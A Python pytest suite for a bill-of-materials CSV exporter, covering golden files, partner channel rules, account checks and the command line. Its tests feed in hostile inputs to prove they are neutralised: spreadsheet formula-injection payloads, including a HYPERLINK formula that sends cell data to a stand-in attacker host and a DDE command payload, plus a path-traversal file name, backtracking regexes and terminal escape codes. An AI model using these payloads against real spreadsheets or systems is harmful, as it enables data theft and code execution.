"""Bill-of-materials exports: golden CSV files, spreadsheet safety, channel rules, checks, `companion bom`."""

from __future__ import annotations

import csv
import io
import os
import resource
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from engine import fixtures
from engine.catalogue.load import load_catalog, rules_of
from engine.cli import cli
from engine.inference.compile import load
from engine.services.exports import (Column, ExportRefused, TemplateNotAvailable, cell, channels, export_csv,
                            export_file_name, neutralise)
from engine.problem import CompanionError
from engine.inference.request import Partner, read_request

ROOT = Path(__file__).resolve().parent.parent
RULES = ROOT / "rules"
GOLDEN = Path(__file__).resolve().parent / "golden"
FIXTURES = Path(__file__).resolve().parent / "fixtures"


@pytest.fixture(scope="module")
def compiled():
    return load(RULES)


def rules_copy(tmp_path: Path, **edits: tuple[str, str]) -> Path:
    """Copy the bundled rules and apply text replacements: file name (dots as underscores) -> (old, new)."""
    directory = tmp_path / "rules"
    shutil.copytree(RULES, directory, ignore=shutil.ignore_patterns("schemas"))
    for name, (old, new) in edits.items():
        path = directory / name.replace("_yaml", ".yaml")
        text = path.read_text(encoding="utf-8")
        assert old in text, f"{old!r} not in {path.name}"
        path.write_text(text.replace(old, new), encoding="utf-8")
    return directory


# --- golden files -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("request_file, template, golden", [
    ("epo-power-management-us.yaml", "generic", "generic-epo.csv"),
    ("epo-power-management-us.yaml", "se-advantage", "se-advantage-epo.csv"),
    ("pme-power-management-us.yaml", "se-advantage", "se-advantage-pme-perpetual.csv"),
    ("ebo-building-automation-us.yaml", "iportal", "iportal-ebo.csv"),
    ("ebo-building-automation-us.yaml", "generic", "generic-ebo.csv"),
])
def test_export_matches_the_hand_written_golden_file_byte_for_byte(compiled, request_file, template, golden):
    request = read_request(GOLDEN / request_file, compiled.catalog)
    assert export_csv(compiled, request, template) == (GOLDEN / golden).read_bytes()


def test_non_ascii_names_are_written_as_utf8_with_a_byte_order_mark(tmp_path):
    directory = rules_copy(tmp_path,
                           tiers_yaml=("name: EcoStruxure Building Operation", "name: Gebäudeautomation – Übersicht"),
                           addons_yaml=("name: EBO device licence", 'name: "Gerätelizenz (EBO)"'))
    compiled = load(directory)
    request = read_request(GOLDEN / "ebo-building-automation-us.yaml", compiled.catalog)
    data = export_csv(compiled, request, "generic")
    assert data == (GOLDEN / "generic-non-ascii.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and "Gebäudeautomation – Übersicht".encode("utf-8") in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1][2] == "Gebäudeautomation – Übersicht Advanced Plus, perpetual"


def test_every_row_has_the_template_columns_and_ends_in_crlf(compiled):
    request = read_request(GOLDEN / "epo-power-management-us.yaml", compiled.catalog)
    for template in ("generic", "se-advantage"):
        data = export_csv(compiled, request, template).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(data, newline="")))
        width = len(compiled.catalog.extras["exports.yaml"].templates[template].columns)
        assert {len(row) for row in rows} == {width}
        assert data.count("\r\n") == len(rows) and "\n" not in data.replace("\r\n", "")


def test_a_template_without_byte_order_mark_starts_with_the_header(tmp_path):
    directory = rules_copy(tmp_path, exports_yaml=("    name: iPortal\n", "    name: iPortal\n    byte_order_mark: false\n"))
    compiled = load(directory)
    request = read_request(GOLDEN / "ebo-building-automation-us.yaml", compiled.catalog)
    assert export_csv(compiled, request, "iportal") == (GOLDEN / "iportal-ebo.csv").read_bytes()[3:]


# --- formula injection --------------------------------------------------------------------------------------

HOSTILE_PRODUCT = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_DEVICES = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_hostile_descriptions_are_neutralised_and_quoted(tmp_path):
    directory = rules_copy(
        tmp_path,
        tiers_yaml=("name: EcoStruxure Power Operation", "name: '" + HOSTILE_PRODUCT.replace("'", "''") + "'"),
        addons_yaml=("name: EPO device licence", "name: \"" + HOSTILE_DEVICES + "\""))
    compiled = load(directory)
    request = read_request(GOLDEN / "epo-power-management-us.yaml", compiled.catalog)
    data = export_csv(compiled, request, "se-advantage")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1][1] == "'" + HOSTILE_PRODUCT + " Advanced, subscription, 36 months"
    assert rows[2][1] == "'" + HOSTILE_DEVICES + ", subscription, 36 months"
    assert rows[1][4] == "'" + HOSTILE_PRODUCT  # the Product column too
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # RFC 4180: the embedded double quotes are doubled inside a quoted field
    assert b'"\'=HYPERLINK(""http://evil.example/?""&A1,""Click""), Advanced' not in data
    assert b'"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"") Advanced, subscription, 36 months"' in data


def test_hostile_headers_and_fixed_values_are_neutralised(tmp_path):
    directory = rules_copy(tmp_path, exports_yaml=(
        "      - {header: Item Type, value: Software License}",
        "      - {header: \"=1+1\", value: \"+SUM(A1:A9)\"}\n      - {header: \"-x\", value: \"\\tTAB\"}"))
    compiled = load(directory)
    request = read_request(GOLDEN / "ebo-building-automation-us.yaml", compiled.catalog)
    rows = list(csv.reader(io.StringIO(export_csv(compiled, request, "iportal").decode("utf-8-sig"), newline="")))
    assert rows[0][-2:] == ["'=1+1", "'-x"]
    assert rows[1][-2:] == ["'+SUM(A1:A9)", "'\tTAB"]


@pytest.mark.parametrize("text, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("  =1", "'  =1"), ("\uff1d1+1", "'\uff1d1+1"), ("EPO-ADV", "EPO-ADV"),
    ("Gebäude – Übersicht", "Gebäude – Übersicht"), ("a=b", "a=b"), ("", ""),
])
def test_neutralise(text, written):
    assert neutralise(text) == written


def test_integer_cells_are_numbers_never_neutralised():
    # A BOM has no negative numbers (quantities are at least 1, months are a term); an integer cell is
    # written as digits, which a spreadsheet reads as a number, so it is never prefixed.
    column = Column("Qty", "quantity", None, "integer", "", None)
    assert cell(column, 150) == "150" and cell(column, -5) == "-5"
    assert cell(Column("Term", "months", None, "integer", "Perpetual", None), None) == "Perpetual"
    assert cell(Column("Term", "months", None, "integer", "", None), None) == ""


def test_export_file_name_is_safe():
    assert export_file_name("iportal", "Gebäude – Übersicht / Phase 2") == "gebaude-ubersicht-phase-2-iportal.csv"
    assert export_file_name("generic") == "bom-generic.csv"
    assert export_file_name("generic", "../../etc/passwd") == "etc-passwd-generic.csv"


# --- refusals -----------------------------------------------------------------------------------------------

def test_a_refused_configuration_has_no_export(compiled):
    request = read_request(ROOT / "examples" / "epo-essential-refused.yaml", compiled.catalog)
    with pytest.raises(ExportRefused) as error:
        export_csv(compiled, request, "generic")
    assert {problem.code for problem in error.value.problems} == {"over-limit", "requires-tier"}


def test_an_unknown_template_gets_a_did_you_mean(compiled):
    request = read_request(GOLDEN / "epo-power-management-us.yaml", compiled.catalog)
    with pytest.raises(TemplateNotAvailable) as error:
        export_csv(compiled, request, "se-advantge")
    [problem] = error.value.problems
    assert problem.code == "unknown-template" and "did you mean 'se-advantage'?" in problem.hint


def test_a_template_the_partner_is_not_offered_is_refused_with_the_reason(compiled):
    request = read_request(GOLDEN / "epo-power-management-us.yaml", compiled.catalog)
    with pytest.raises(TemplateNotAvailable) as error:
        export_csv(compiled, request, "iportal")
    [problem] = error.value.problems
    assert problem.code == "template-not-offered" and problem.rule == "export.iportal"
    assert "building-automation partners in US" in problem.message
    assert problem.hint == "your templates: se-advantage, generic"


# --- channel rules: every badge and country combination, by hand --------------------------------------------

BA, PM, PA = "building-automation", "power-management", "power-automation"
CHANNEL_TABLE = [
    # badges, country -> templates offered (recommended first)
    ((BA,), "US", ["iportal", "generic"]),
    ((PM,), "US", ["se-advantage", "generic"]),
    ((PA,), "US", ["generic"]),
    ((BA, PM), "US", ["iportal", "se-advantage", "generic"]),
    ((PM, BA), "US", ["iportal", "se-advantage", "generic"]),  # the rules' order decides, not the partner's
    ((BA, PA), "US", ["iportal", "generic"]),
    ((PM, PA), "US", ["se-advantage", "generic"]),
    ((BA, PM, PA), "US", ["iportal", "se-advantage", "generic"]),
    ((), "US", ["generic"]),
    ((BA,), "DE", ["generic"]),
    ((PM,), "DE", ["generic"]),
    ((PA,), "DE", ["generic"]),
    ((BA, PM), "DE", ["generic"]),
    ((BA, PM, PA), "DE", ["generic"]),
    ((), "DE", ["generic"]),
    ((BA,), "CA", ["generic"]),
    ((PM,), "CA", ["generic"]),
    ((PA,), "CA", ["generic"]),
    ((BA, PM), "CA", ["generic"]),
    ((BA,), None, ["generic"]),
    ((PM,), None, ["generic"]),
    ((PA,), None, ["generic"]),
    ((BA, PM, PA), None, ["generic"]),
]


@pytest.mark.parametrize("badges, country, offered", CHANNEL_TABLE)
def test_channels_for_each_badge_and_country(compiled, badges, country, offered):
    result = channels(compiled.catalog, Partner(badges, country))
    assert [item["id"] for item in result["templates"]] == offered
    assert result["recommended"] == offered[0]
    assert [item["recommended"] for item in result["templates"]] == [True] + [False] * (len(offered) - 1)
    assert sorted(item["id"] for item in result["hidden"]) == sorted({"generic", "iportal", "se-advantage"} - set(offered))


@pytest.mark.parametrize("product, recommended", [("epo", "se-advantage"), ("pme", "se-advantage"),
                                                  ("ebo", "iportal"), (None, "iportal")])
def test_the_project_product_picks_the_recommendation_of_a_two_badge_partner(compiled, product, recommended):
    result = channels(compiled.catalog, Partner((BA, PM), "US"), product)
    assert result["recommended"] == recommended
    assert result["templates"][0]["id"] == recommended


@pytest.mark.parametrize("account, allowed, rule, says", [
    ("12345678", True, "checkout.account-required", ""),
    ("1234567890", True, "checkout.account-required", ""),
    (" 12345678 ", True, "checkout.account-required", ""),
    (None, False, "checkout.account-required", "contact your sales representative"),
    ("", False, "checkout.account-required", "contact your sales representative"),
    ("1234567", False, "checkout.account-format", "8 to 10 digits"),
    ("ACCT-42", False, "checkout.account-format", "contact your sales representative"),
])
def test_checkout_needs_a_purchasing_account_in_the_declared_format(compiled, account, allowed, rule, says):
    decision = channels(compiled.catalog, Partner((PM,), "US", account))["checkout"]
    assert (decision["allowed"], decision["rule"]) == (allowed, rule)
    assert says in decision["message"]


def test_channels_accepts_any_object_with_badges_country_and_account(compiled):
    class User:  # e.g. a database row of the web app
        badges = [BA]
        country = "US"
        purchasing_account = "12345678"

    result = channels(compiled.catalog, User())
    assert result["recommended"] == "iportal" and result["checkout"]["allowed"]


# --- checks: located problems -------------------------------------------------------------------------------

BAD_EXPORTS = """\
templates:
  - id: generic
    name: Generic
    columns:
      - {header: Reference, field: reference}
      - {header: Reference, field: description}
      - {header: Version, field: version, format: integer}
  - id: generic
    name: Again
    columns:
      - {header: X, field: reference}
  - id: orphan
    name: Orphan
    columns:
      - {header: X, field: reference}
channels:
  - id: us
    when: {badges: [buildng-automation], countries: [US]}
    templates: [genric, generic]
checkout:
  account: {pattern: "[0-9", description: digits}
  without_account: Contact your sales representative.
"""


def test_checks_locate_every_problem_of_exports_yaml(tmp_path):
    directory = rules_copy(tmp_path)
    (directory / "exports.yaml").write_text(BAD_EXPORTS, encoding="utf-8")
    with pytest.raises(CompanionError) as error:
        load_catalog(directory)
    found = [(problem.where.line, problem.where.column, problem.code, problem.rule) for problem in error.value.problems
             if problem.where.file.endswith("exports.yaml")]
    assert found == [
        (6, 9, "duplicate-header", "export.generic"),
        (7, 9, "bad-format", "export.generic"),
        (8, 9, "duplicate-id", "export.generic"),
        (12, 9, "unreachable", "export.orphan"),
        (16, 1, "no-fallback", ""),  # at the `channels:` key
        (18, 21, "unknown-ref", "channel.us"),
        (19, 17, "unknown-ref", "channel.us"),
        (21, 22, "bad-pattern", "checkout.account-format"),
    ]
    hints = {problem.code + str(problem.where.line): problem.hint for problem in error.value.problems}
    assert hints["unknown-ref18"] == "did you mean 'building-automation'?"
    assert hints["unknown-ref19"] == "did you mean 'generic'?"


def test_the_schema_refuses_a_column_with_both_a_field_and_a_value(tmp_path):
    directory = rules_copy(tmp_path, exports_yaml=("{header: Item Type, value: Software License}",
                                                   "{header: Item Type, value: Software License, field: tier}"))
    with pytest.raises(CompanionError) as error:
        load_catalog(directory)
    [problem] = error.value.problems
    assert (problem.where.file.endswith("exports.yaml"), problem.where.line, problem.code) == (True, 43, "schema")


def test_rules_without_exports_yaml_load_and_say_so_when_asked(tmp_path):
    directory = rules_copy(tmp_path)
    (directory / "exports.yaml").unlink()
    catalog = load_catalog(directory)
    assert not any(rule.startswith(("export.", "channel.", "checkout.")) for rule in rules_of(catalog))
    with pytest.raises(CompanionError) as error:
        channels(catalog, Partner((BA,), "US"))
    assert error.value.problems[0].code == "no-exports"


def test_rule_ids_are_listed_with_their_locations(compiled):
    found = {rule: str(where) for rule, where in rules_of(compiled.catalog).items()
             if rule.startswith(("export.", "channel.", "checkout."))}
    assert found == {
        "export.generic": "rules/exports.yaml:25:9", "export.iportal": "rules/exports.yaml:35:9",
        "export.se-advantage": "rules/exports.yaml:45:9", "channel.iportal-us": "rules/exports.yaml:62:9",
        "channel.se-advantage-us": "rules/exports.yaml:66:9", "channel.everyone": "rules/exports.yaml:70:9",
        "checkout.account-required": "rules/exports.yaml:79:20", "checkout.account-format": "rules/exports.yaml:77:14",
    }


# --- fixture cases through the project's runner ---------------------------------------------------------------

def test_the_fixture_cases_cover_every_export_checkout_and_guidance_rule():
    """tests/fixtures/exports and tests/fixtures/guidance (kinds `export` and `guide`) exercise every new rule id."""
    exercised: set[str] = set()
    for path in sorted(FIXTURES.glob("exports/*.yaml")) + sorted(FIXTURES.glob("guidance/*.yaml")):
        result = fixtures.run_file(path)
        assert not result.problems and all(case.passed for case in result.results)
        for case in result.results:
            exercised.update(case.exercised)
    new_rules = {rule for rule in rules_of(load_catalog(RULES))
                 if rule.startswith(("export.", "channel.", "checkout.", "guidance."))}
    assert len(new_rules) == 13 and new_rules - exercised == set()


# --- command line -------------------------------------------------------------------------------------------

def run(*args: str):
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def test_bom_writes_the_csv_to_stdout_and_exits_0():
    result = run("bom", str(GOLDEN / "epo-power-management-us.yaml"), "--template", "generic")
    assert result.exit_code == 0
    assert result.stdout_bytes == (GOLDEN / "generic-epo.csv").read_bytes()


def test_bom_writes_a_file_with_o(tmp_path):
    target = tmp_path / "out.csv"
    result = run("bom", str(GOLDEN / "ebo-building-automation-us.yaml"), "--template", "iportal", "-o", str(target))
    assert result.exit_code == 0
    assert target.read_bytes() == (GOLDEN / "iportal-ebo.csv").read_bytes()


def test_bom_of_a_refused_configuration_exits_1_and_writes_nothing():
    result = run("bom", str(ROOT / "examples" / "epo-essential-refused.yaml"), "--template", "generic")
    assert result.exit_code == 1
    assert result.stdout_bytes == b""
    assert "no bill of materials" in result.stderr


@pytest.mark.parametrize("template, code, says", [
    ("iportl", "unknown-template", "did you mean 'iportal'?"),
    ("iportal", "template-not-offered", "offered to building-automation partners in US"),
])
def test_bom_exits_2_for_a_template_the_partner_cannot_use(template, code, says):
    result = run("bom", str(GOLDEN / "epo-power-management-us.yaml"), "--template", template)
    assert result.exit_code == 2
    assert f"error[{code}]" in result.stderr and says in result.stderr
    assert result.stdout_bytes == b""


def test_check_stays_clean():
    result = run("check")
    assert result.exit_code == 0 and "rules OK" in result.stderr


# --- regression: account patterns that crashed `check` or hung checkout -------------------------------------

ACCOUNT_PATTERN = '"^[0-9]{8,10}$"'


@pytest.mark.parametrize("pattern, says", [
    ('"x{99999999999}"', "not a valid regular expression: the repetition number is too large"),
    ('"^(a+)+$"', "exponential time"),
    ('"^([0-9]*-)+$"', "exponential time"),
    ('"^(a|aa)+$"', "exponential time"),
])
def test_check_refuses_an_account_pattern_that_fails_to_compile_or_backtracks(tmp_path, pattern, says):
    directory = rules_copy(tmp_path, exports_yaml=(ACCOUNT_PATTERN, pattern))
    text = (directory / "exports.yaml").read_text(encoding="utf-8")
    line = 1 + text[:text.index(pattern)].count("\n")
    result = run("check", "--rules", str(directory))
    assert result.exit_code == 1
    assert f"exports.yaml:{line}:14: error[bad-pattern] checkout.account-format: account pattern" in result.stderr
    assert says in result.stderr and "internal" not in result.stderr


@pytest.mark.parametrize("pattern", ['"^[0-9]{8,10}$"', '"^(SO|PO)-[0-9]+$"', '"^([A-Z]{2}-)?[0-9]+$"'])
def test_check_accepts_account_patterns_without_nested_repeats(tmp_path, pattern):
    result = run("check", "--rules", str(rules_copy(tmp_path, exports_yaml=(ACCOUNT_PATTERN, pattern))))
    assert result.exit_code == 0, result.stderr


def test_an_account_longer_than_64_characters_is_refused_before_the_pattern_runs(tmp_path):
    catalog = load_catalog(rules_copy(tmp_path, exports_yaml=(ACCOUNT_PATTERN, '"^[0-9]+$"')))
    assert channels(catalog, Partner((PM,), "US", "1" * 64))["checkout"]["allowed"]
    decision = channels(catalog, Partner((PM,), "US", "1" * 65))["checkout"]
    assert (decision["allowed"], decision["rule"]) == (False, "checkout.account-format")
    assert "at most 64 characters" in decision["message"]


# --- regression: `bom -o` crashed on a directory, a missing directory, a full device or an empty name ---------

@pytest.mark.parametrize("where, reason", [
    (".", "Is a directory"),
    ("missing/x.csv", "No such file or directory"),
    pytest.param("/dev/full", "No space left on device",
                 marks=pytest.mark.skipif(not os.path.exists("/dev/full"), reason="no /dev/full here")),
    ("", "no file name given"),
])
def test_bom_names_an_output_it_cannot_write_and_why(tmp_path, monkeypatch, where, reason):
    monkeypatch.chdir(tmp_path)
    result = run("bom", str(GOLDEN / "epo-power-management-us.yaml"), "--template", "generic", "-o", where)
    assert result.exit_code == 2 and not result.stdout
    assert result.stderr == f"{where or repr('')}: error[file]: cannot write file: {reason}\n"
    assert list(tmp_path.iterdir()) == []


def test_bom_that_fails_half_way_leaves_the_previous_file_whole(tmp_path):
    target = tmp_path / "out.csv"
    target.write_bytes(b"the previous export\r\n")

    def small_files():  # files of at most 100 bytes: the CSV (324 bytes) fails half way with EFBIG
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (100, 100))

    result = subprocess.run(
        [sys.executable, "-c", "from engine.cli import main; main()", "bom",
         str(GOLDEN / "epo-power-management-us.yaml"), "--template", "generic", "-o", str(target)], cwd=ROOT, capture_output=True, text=True, timeout=60,
        preexec_fn=small_files, env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"})
    assert result.returncode == 2, result.stderr
    assert result.stderr == f"{target}: error[file]: cannot write file: File too large\n"
    assert target.read_bytes() == b"the previous export\r\n" and list(tmp_path.iterdir()) == [target]


def test_bom_keeps_the_permissions_of_the_file_it_replaces(tmp_path):
    target = tmp_path / "out.csv"
    target.write_bytes(b"old")
    target.chmod(0o640)
    result = run("bom", str(GOLDEN / "epo-power-management-us.yaml"), "--template", "generic", "-o", str(target))
    assert result.exit_code == 0 and target.read_bytes() == (GOLDEN / "generic-epo.csv").read_bytes()
    assert target.stat().st_mode & 0o777 == 0o640 and list(tmp_path.iterdir()) == [target]


# --- regression: control characters in --template reached the terminal raw ---------------------------------

def test_bom_escapes_control_characters_of_an_unknown_template():
    result = run("bom", str(GOLDEN / "epo-power-management-us.yaml"), "--template", "generic\x1b]0;owned\x07\r")
    assert result.exit_code == 2
    assert "error[unknown-template]: no export template 'generic\\x1b]0;owned\\x07\\r'" in result.stderr
    assert not {"\x1b", "\x07", "\r"} & set(result.stderr)
